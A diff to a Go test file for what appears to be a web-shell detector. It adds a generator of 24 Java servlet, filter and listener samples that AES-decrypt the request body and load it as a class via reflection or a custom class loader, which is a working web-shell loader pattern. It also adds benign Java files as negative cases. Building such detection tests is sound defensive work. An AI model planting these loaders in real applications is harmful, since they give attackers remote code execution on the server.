@@ -540,6 +540,61 @@ func tamperPages(r *rand.Rand) []techVariant {
 	return out
 }
 
+// servletLoaderPages: Java source of a filter, servlet or listener that decrypts the request
+// body (AES, base64) and defines a class from it by reflection or its own class loader.
+func servletLoaderPages(r *rand.Rand) []techVariant {
+	pkgs := []string{"javax", "jakarta"}
+	bodies := []string{"req.getReader().readLine()", "new java.util.Scanner(req.getInputStream()).useDelimiter(\"\\\\A\").next()", "req.getParameter(\"" + word(r) + "\")"}
+	b64s := []func(x string) string{
+		func(x string) string { return "java.util.Base64.getDecoder().decode(" + x + ")" },
+		func(x string) string { return "new sun.misc.BASE64Decoder().decodeBuffer(" + x + ")" },
+		func(x string) string { return "org.apache.commons.codec.binary.Base64.decodeBase64(" + x + ")" },
+	}
+	var out []techVariant
+	for n := 0; n < 24; n++ {
+		pk := pkgs[r.Intn(2)]
+		cls := "C" + word(r)
+		key := fmt.Sprintf("%016x", r.Uint64())
+		body := bodies[r.Intn(len(bodies))]
+		data := "d" + word(r)
+		var sb strings.Builder
+		sb.WriteString("package com." + word(r) + ";\n\nimport javax.crypto.Cipher;\nimport javax.crypto.spec.SecretKeySpec;\nimport " + pk + ".servlet.*;\nimport " + pk + ".servlet.http.*;\nimport java.lang.reflect.Method;\n\n")
+		var sig, reqDecl string
+		switch n % 3 {
+		case 0:
+			sb.WriteString("public class " + cls + " implements Filter {\n  public void init(FilterConfig c) {}\n  public void destroy() {}\n")
+			sig = "  public void doFilter(ServletRequest sr, ServletResponse sp, FilterChain ch) {\n"
+			reqDecl = "      HttpServletRequest req = (HttpServletRequest) sr;\n"
+		case 1:
+			sb.WriteString("public class " + cls + " extends HttpServlet {\n")
+			sig = "  protected void doPost(HttpServletRequest req, HttpServletResponse resp) {\n"
+		case 2:
+			sb.WriteString("public class " + cls + " implements ServletRequestListener {\n  public void requestDestroyed(ServletRequestEvent e) {}\n")
+			sig = "  public void requestInitialized(ServletRequestEvent e) {\n"
+			reqDecl = "      HttpServletRequest req = (HttpServletRequest) e.getServletRequest();\n"
+		}
+		if r.Intn(2) == 0 {
+			sb.WriteString("  static class L extends ClassLoader {\n    L(ClassLoader p) { super(p); }\n    public Class g(byte[] b) { return super.defineClass(b, 0, b.length); }\n  }\n")
+		}
+		sb.WriteString(sig + "    try {\n" + reqDecl)
+		sb.WriteString("      String k = \"" + key + "\";\n      Cipher c = Cipher.getInstance(\"AES\");\n      c.init(2, new SecretKeySpec(k.getBytes(), \"AES\"));\n")
+		sb.WriteString("      byte[] " + data + " = c.doFinal(" + b64s[r.Intn(len(b64s))](body) + ");\n")
+		if strings.Contains(sb.String(), "class L extends ClassLoader") {
+			sb.WriteString("      Class x = new L(this.getClass().getClassLoader()).g(" + data + ");\n")
+		} else {
+			sb.WriteString("      Method m = ClassLoader.class.getDeclaredMethod(\"defineClass\", byte[].class, int.class, int.class);\n      m.setAccessible(true);\n")
+			sb.WriteString("      Class x = (Class) m.invoke(Thread.currentThread().getContextClassLoader(), " + data + ", 0, " + data + ".length);\n")
+		}
+		sb.WriteString("      x.newInstance().equals(req);\n    } catch (Exception ex) { }\n  }\n}\n")
+		p := "/usr/local/tomcat/webapps/ROOT/WEB-INF/src/com/" + cls + ".java"
+		if r.Intn(2) == 0 {
+			p = "/opt/app/src/main/java/com/" + cls + ".java"
+		}
+		out = append(out, techVariant{"servlet-loader-source", p, sb.String()})
+	}
+	return out
+}
+
 // word is a random PHP identifier.
 func word(r *rand.Rand) string {
 	const first = "abcdefghijklmnopqrstuvwxyz_"
@@ -562,6 +617,7 @@ func TestHarnessTechniques2(t *testing.T) {
 	vs = append(vs, downloaderPages(r)...)
 	vs = append(vs, beaconPages(r)...)
 	vs = append(vs, tamperPages(r)...)
+	vs = append(vs, servletLoaderPages(r)...)
 	a := New()
 	type tally struct{ found, total int }
 	by := map[string]*tally{}
@@ -605,6 +661,8 @@ func TestTechnique2Negatives(t *testing.T) {
 		"/var/www/html/errors.php":                                   "<?php\n$report = 'PHP ' . phpversion() . ' on ' . $_SERVER['SERVER_NAME'] . ': ' . error_get_last()['message'];\nmail('dev@example.com', 'Site error', $report);\n",
 		"/var/www/html/wp-content/plugins/wordfence/lib/cleanup.php": "<?php\n@unlink(WP_CONTENT_DIR . '/plugins/wordfence/tmp/cache.php');\n@rmdir(WP_CONTENT_DIR . '/plugins/wordfence/tmp');\n",
 		"/var/www/html/cache.php":                                    "<?php\n$f = __DIR__ . '/cache/page.html';\nif (filemtime($f) < time() - 60) { file_put_contents($f, render()); touch($f, filemtime(__DIR__ . '/data.json')); }\ntouch(__FILE__);\n",
+		"/opt/app/src/main/java/com/example/Hello.java": "package com.example;\nimport javax.servlet.http.*;\nimport java.io.*;\npublic class Hello extends HttpServlet {\n  protected void doGet(HttpServletRequest req, HttpServletResponse resp) throws IOException {\n    String n = req.getParameter(\"name\");\n    resp.getWriter().println(\"Hello \" + org.owasp.encoder.Encode.forHtml(n));\n  }\n}\n",
+		"/opt/app/src/main/java/com/example/Plugins.java": "package com.example;\nimport jakarta.servlet.*;\npublic class Plugins implements ServletContextListener {\n  public void contextInitialized(ServletContextEvent e) {\n    try {\n      byte[] b = java.nio.file.Files.readAllBytes(java.nio.file.Paths.get(\"/opt/app/plugins/P.class\"));\n      Class c = new ClassLoader(getClass().getClassLoader()) { Class d() { return defineClass(null, b, 0, b.length); } }.d();\n    } catch (Exception x) { }\n  }\n}\n",
 		"/var/www/html/view.php":                                     "<?php\nclass Req { public $page; function __construct() { $this->page = $_GET['page'] ?? 'home'; } }\nclass Tpl { public $code = 'return 1;'; }\n$r = new Req();\n$t = new Tpl();\n$x = eval($t->code);\necho htmlspecialchars($r->page);\n",
 	}
 	for p, page := range pages {
